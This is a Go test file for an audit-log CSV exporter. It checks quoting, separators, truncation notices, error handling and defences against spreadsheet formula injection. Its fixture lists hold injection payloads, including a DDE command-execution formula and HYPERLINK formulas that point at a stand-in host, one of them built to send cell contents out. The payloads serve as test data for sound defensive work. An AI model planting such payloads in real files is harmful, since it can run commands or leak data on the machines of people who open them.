package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/auditkeep/audit"
	"github.com/auditkeep/audit/export"
)

const csvHeader = "Timestamp,Object Type,Auditable ID,Action,Changes,Performed By,IP Address\r\n"

func writeCSV(t testing.TB, r export.Report, entries ...audit.Entry) string {
	t.Helper()
	var out bytes.Buffer
	result, err := export.CSV.Write(&out, all(entries...), r)
	require.NoError(t, err)
	if r.MaxRows == 0 {
		require.Equal(t, export.Result{Rows: len(entries)}, result)
	}
	return out.String()
}

func TestCSV(t *testing.T) {
	t.Parallel()
	created, system := entry(1), entry(2)
	created.Action = audit.ActionCreate
	created.Changes = audit.Changes{{Field: "name", New: text(`say "hi", or not`)}, {Field: "active", New: value("true")}}
	system.Action, system.Object, system.Actor, system.IP = audit.ActionDestroy, audit.Object{Type: "end_user", ID: "x-1"}, audit.Actor{}, created.IP.Next()
	system.Changes = audit.Changes{{Field: "email", Old: text("a@acme.test")}}
	got := writeCSV(t, export.Report{Zone: zone(t, "Asia/Kolkata")}, entry(0), created, system)
	assert.Equal(t, "\ufeff"+csvHeader+
		"2026-11-23T04:11:07.123456+05:30,API Key,42,update,name: ci -> deploy,dana@acme.test,203.0.113.24\r\n"+
		"2026-11-23T04:11:07.123457+05:30,API Key,42,create,\"name: say \"\"hi\"\", or not; active: true\",dana@acme.test,203.0.113.24\r\n"+
		"2026-11-23T04:11:07.123458+05:30,End User,x-1,destroy,email: a@acme.test,unknown,203.0.113.25\r\n", got)

	assert.Equal(t, csvHeader, writeCSV(t, export.Report{NoBOM: true}))
}

// Every entry is one line, whatever it holds, and an independent reader finds
// seven cells in it that hold nothing invisible.
func TestCSVOfHostileTexts(t *testing.T) {
	t.Parallel()
	var entries []audit.Entry
	for i, payload := range hostile {
		e := entry(i)
		e.Object = audit.Object{Type: payload, ID: payload}
		e.Action, e.Actor.Email, e.Actor.OnBehalfOf = audit.Action(payload), payload, payload
		e.Changes = audit.Changes{{Field: payload, Old: text(payload), New: text(payload + "!")}}
		entries = append(entries, e)
	}
	got := writeCSV(t, export.Report{}, entries...)
	assert.Equal(t, len(entries)+1, strings.Count(got, "\r\n"))
	assert.Equal(t, len(entries)+1, strings.Count(got, "\n"))
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(entries)+1)
	for _, row := range rows[1:] {
		require.Len(t, row, 7)
		for _, cell := range row {
			assert.False(t, isFormula(cell), "%q", cell)
			assert.NotContains(t, cell, "\u202e")
			assert.True(t, utf8.ValidString(cell))
		}
	}
}

// isFormula is how a spreadsheet sees a cell, written in another way than the
// code: it looks at the first character that is not a blank.
func isFormula(cell string) bool {
	for _, r := range cell {
		switch r {
		case ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\u3000':
			continue
		case '=', '+', '-', '@', '＝', '＋', '－', '＠':
			return strings.Trim(cell, "+-0123456789.") != ""
		}
		return false
	}
	return false
}

// hostile are texts that some program takes for more than a text.
var hostile = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.test\",\"x\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1",
	"\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1+1", "＠SUM", "\n=1", "a\r\n=1+1", "\x1b[31mred", "a\u202eb",
	"\x00", "a;b", "a, b", `"`, `""`, "'", "_x000D_", "<b>", "]]>", "&amp;", "ﷺ", "日本語", "😀", "é", strings.Repeat("long ", 2000), "%n", "{{.}}", "-", "=", "+", "@",
}

func TestCSVKeepsNumbers(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]string{
		"-5": "-5", "+5": "+5", "-1.5e3": "-1.5e3", "007": "007",
		"-5-5": "'-5-5", "--5": "'--5", "-": "'-", "+e": "'+e", "=5": "'=5", "-0x10": "'-0x10",
	} {
		e := entry(0)
		e.Object.ID = id
		rows, err := csv.NewReader(strings.NewReader(writeCSV(t, export.Report{NoBOM: true}, e))).ReadAll()
		require.NoError(t, err)
		assert.Equal(t, want, rows[1][2], id)
	}
}

func TestCSVSaysThatItIsCut(t *testing.T) {
	t.Parallel()
	for matching, want := range map[int]string{0: "Complete: NO: cut after the first 2 entries", 3: "Complete: NO: the first 2 of 3 entries"} {
		var out bytes.Buffer
		result, err := export.CSV.Write(&out, all(entry(0), entry(1), entry(2)), export.Report{MaxRows: 2, Matching: matching})
		require.NoError(t, err)
		assert.Equal(t, export.Result{Rows: 2, Cut: true}, result)
		lines := strings.Split(strings.TrimSpace(out.String()), "\r\n")
		require.Len(t, lines, 4)
		assert.Equal(t, want+",,,,,,", lines[3])
	}
	// As many as there is room for are not cut.
	assert.Equal(t, 3, strings.Count(writeCSV(t, export.Report{MaxRows: 2}, entry(0), entry(1)), "\r\n"))
}

func TestErrorsEndAFile(t *testing.T) {
	t.Parallel()
	for _, format := range export.Formats() {
		t.Run(string(format), func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			result, err := format.Write(&out, failing(errBroken, entry(0), entry(1)), export.Report{})
			require.ErrorIs(t, err, errBroken)
			assert.Equal(t, 2, result.Rows)
			assert.False(t, result.Cut)

			_, err = format.Write(&full{100}, all(entry(0), entry(1)), export.Report{})
			require.ErrorIs(t, err, errFull)
		})
	}
}

func TestProgress(t *testing.T) {
	t.Parallel()
	var told []int
	_, err := export.CSV.Write(&bytes.Buffer{}, repeat(2500), export.Report{Progress: func(rows int) { told = append(told, rows) }})
	require.NoError(t, err)
	assert.Equal(t, []int{1000, 2000, 2500}, told)
}

func TestWriteRefuses(t *testing.T) {
	t.Parallel()
	for want, write := range map[string]func() error{
		`format "xls"`: func() error { _, err := export.Format("xls").Write(nil, nil, export.Report{}); return err },
		"are nil":      func() error { _, err := export.CSV.Write(nil, nil, export.Report{}); return err },
		"MaxRows -1":   func() error { _, err := export.CSV.Write(nil, nil, export.Report{MaxRows: -1}); return err },
		`Sort.By "nose"`: func() error {
			_, err := export.CSV.Write(nil, nil, export.Report{Sort: audit.Sort{By: "nose"}})
			return err
		},
	} {
		require.ErrorContains(t, write(), want)
	}
}

// FuzzCSV: whatever an entry holds, an independent reader finds its cells, none
// is a formula, and none holds a line break.
func FuzzCSV(f *testing.F) {
	for _, payload := range hostile {
		f.Add(payload)
	}
	f.Fuzz(func(t *testing.T, payload string) {
		e := entry(0)
		e.Object = audit.Object{Type: payload, ID: payload}
		e.Actor.Email = payload
		e.Changes = audit.Changes{{Field: payload, New: text(payload)}}
		rows, err := csv.NewReader(strings.NewReader(writeCSV(t, export.Report{NoBOM: true}, e))).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 2)
		for i, cell := range rows[1] {
			require.False(t, isFormula(cell), "%d: %q", i, cell)
			require.False(t, strings.ContainsAny(cell, "\r\n\x00"), "%d: %q", i, cell)
		}
	})
}

func BenchmarkCSV(b *testing.B) {
	var out bytes.Buffer
	for b.Loop() {
		out.Reset()
		_, err := export.CSV.Write(&out, repeat(10_000), export.Report{})
		require.NoError(b, err)
	}
	b.ReportMetric(float64(b.N)*10_000/b.Elapsed().Seconds(), "rows/s")
}

func ExampleFormat_Write() {
	entries := all(entry(0))
	var file bytes.Buffer
	result, err := export.CSV.Write(&file, entries, export.Report{NoBOM: true})
	fmt.Println(result.Rows, err)
	fmt.Print(strings.ReplaceAll(file.String(), "\r\n", "\n"))
	// Output:
	// 1 <nil>
	// Timestamp,Object Type,Auditable ID,Action,Changes,Performed By,IP Address
	// 2026-11-22T22:41:07.123456Z,API Key,42,update,name: ci -> deploy,dana@acme.test,203.0.113.24
}

// separated are texts that become several cells in a program that takes another
// separator than the file's. One of those cells would be a formula.
var separated = []string{
	"x;=1+1", "x;+1+1", "x;-1+1", "x;@SUM(A1)", "x,=1+1", "x, =1+1", "x; =1+1", "x;\u00a0=1+1", "x;\u200b=1+1", "x;＝1+1", ";=1+1", ",=1+1", ";;=1+1", ",;,=1+1",
	`x;"=1+1`, `x;""=1+1`, `x;"""=1+1"`, `"x;=1+1`, `";=1+1;"`, `x";=1+1`, `x,"=1+1"`, `x;=HYPERLINK("http://evil.test/?x="&A1;"click")`, `x;=cmd|' /C calc'!A0`,
	"a;b;=1+1;c", "a;-5;=1", "1;=2", "x\t=1+1", "x;\t=1+1", "x;\r\n=1+1", "x;-5-5", "'x;=1+1", "x;= 1", `x;" "=1+1`, "=1;=1", "=1,=1", "x;\ufeff=1", "x;\u3000=1",
}

// Whichever separator a program takes for the file's, and whether or not it
// heeds quotes, no cell is a formula.
func TestCSVInAnotherReading(t *testing.T) {
	t.Parallel()
	var entries []audit.Entry
	for i, payload := range append(slices.Clone(separated), hostile...) {
		e := entry(i)
		e.Object = audit.Object{Type: payload, ID: payload}
		e.Action, e.Actor.Email = audit.Action(payload), payload
		e.Changes = audit.Changes{{Field: payload, Old: text(payload), New: text(payload + "!")}, {Field: "=1", New: text("2")}}
		if i%2 == 0 {
			e.Changes, e.Comment = nil, payload
		}
		entries = append(entries, e)
	}
	for _, written := range []rune{',', ';', '\t'} {
		content := strings.TrimPrefix(writeCSV(t, export.Report{Separator: written}, entries...), "\ufeff")
		reader := csv.NewReader(strings.NewReader(content))
		reader.Comma = written
		rows, err := reader.ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, len(entries)+1)
		for _, row := range rows {
			assert.Len(t, row, 7)
		}
		for _, read := range []string{",", ";", "\t", ",;", ";\t", ",\t", ",;\t"} {
			if strings.ContainsRune(read, written) {
				continue // in that reading, quotes keep a cell together
			}
			for line := range strings.SplitSeq(content, "\r\n") {
				for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(read, r) }) {
					assert.False(t, isFormula(strings.TrimLeft(cell, `"`)), "written with %q, read with %q: %q", written, read, cell)
				}
			}
		}
		// Those that take several separators at once do heed quotes.
		for _, row := range rows {
			for _, cell := range row {
				assert.False(t, isFormula(cell), "%q", cell)
				if strings.ContainsAny(cell, `"`+string(written)) {
					continue // is in quotes
				}
				for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t", r) }) {
					assert.False(t, isFormula(part), "written with %q: %q", written, cell)
				}
			}
		}
	}
}

func TestCSVSeparators(t *testing.T) {
	t.Parallel()
	e := entry(0)
	e.Changes = audit.Changes{{Field: "a", New: text("1;2")}}
	e.Action = audit.ActionCreate
	assert.Contains(t, writeCSV(t, export.Report{Separator: ';'}, e), "API Key;42;create;\"a: 1;2\";dana@acme.test;")
	assert.Contains(t, writeCSV(t, export.Report{Separator: '\t'}, e), "API Key\t42\tcreate\ta: 1;2\tdana@acme.test\t")
	e.Object.ID = "1;-5"
	assert.Contains(t, writeCSV(t, export.Report{}, e), `,1;-5,`, "numbers stay numbers")
	_, err := export.CSV.Write(io.Discard, all(), export.Report{Separator: '|'})
	assert.ErrorContains(t, err, `export: Report.Separator '|': give a comma, a semicolon or a tab`)
}
